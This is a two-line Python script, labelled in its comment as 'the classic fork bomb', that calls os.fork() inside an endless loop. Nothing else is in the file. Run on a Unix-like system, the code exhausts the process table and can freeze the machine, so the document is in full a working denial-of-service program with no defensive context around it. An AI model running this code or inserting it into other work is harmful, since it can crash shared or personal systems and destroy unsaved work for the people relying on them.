# The classic fork bomb: every process forks for ever.
import os

while True:
    os.fork()
